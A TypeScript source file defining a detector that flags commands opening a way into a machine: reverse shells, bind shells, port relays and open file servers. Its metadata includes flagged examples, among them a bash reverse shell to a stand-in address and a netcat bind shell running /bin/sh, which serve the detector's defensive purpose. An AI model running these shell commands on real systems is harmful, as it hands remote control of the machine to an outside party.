import { textsOf } from "../base/value.ts";
import type { ConnectEffect, Effect } from "../effects/effect.ts";
import { hostOf } from "../effects/hosts.ts";
import { type Detector, defineDetector } from "./define-detector.ts";

/** Flags a way in from outside: reverse shells, bind shells, tunnels. */
export const openShell: Detector<"reverse" | "bind" | "relay" | "files"> = defineDetector({
  id: "open-shell",
  meta: {
    title: "Opening a way in",
    description:
      "Connects a shell, the machine's files or one of its ports to somebody outside. " +
      "Whoever is at the " +
      "other end acts with this account's rights.",
    messages: {
      reverse: "gives {{host}} a shell on this machine",
      bind: "waits for connections and gives a shell to whoever connects",
      relay: "forwards connections from outside to a port of this machine",
      files: "serves files to every host that can reach this machine",
    },
    examples: {
      flagged: [
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "nc -l -p 4444 -e /bin/sh",
        "python3 -m http.server",
      ],
      clean: ["curl http://localhost:4444", "exec 3<>/dev/tcp/127.0.0.1/80"],
    },
    references: ["CWE-553", "MITRE ATT&CK T1059.004", "MITRE ATT&CK T1571", "MITRE ATT&CK T1572"],
  },
  *detect({ effects }) {
    const shell = effects.some(
      (effect) =>
        effect.kind === "code" && effect.text.taint.some((one) => one.label === "network"),
    );
    for (const effect of effects) {
      const { at } = effect;
      if (effect.kind === "connect") {
        const socket = effect.by === "/dev/tcp" && shell;
        if (effect.purpose === "shell" || socket || isFedByPipe(effect, effects))
          yield { messageId: "reverse", data: { host: hostOf(effect.to) }, at };
      } else if (effect.kind === "listen") {
        if (effect.offers === "shell") yield { messageId: "bind", data: {}, at };
        else if (effect.offers === "relay") yield { messageId: "relay", data: {}, at };
        else if (effect.offers === "files" && effect.address === undefined)
          yield { messageId: "files", data: {}, at };
      }
    }
  },
});

/**
 * Whether a shell that runs what comes out of a file sends its output to a host whose answer goes
 * into that file: a conversation through a named pipe.
 */
function isFedByPipe(connect: ConnectEffect, effects: readonly Effect[]): boolean {
  if (connect.sends === undefined) return false;
  const before = effects.slice(0, effects.indexOf(connect));
  const read = before.flatMap((one) =>
    one.kind === "read" ? (textsOf(one.target.path) ?? []) : [],
  );
  return (
    before.some((one) => one.kind === "code" && one.language === "shell" && !one.judged) &&
    effects.some(
      (one) =>
        one.kind === "write" &&
        one.content?.taint.some(({ label }) => label === "network") === true &&
        textsOf(one.target.path)?.some((path) => read.includes(path)) === true,
    )
  );
}
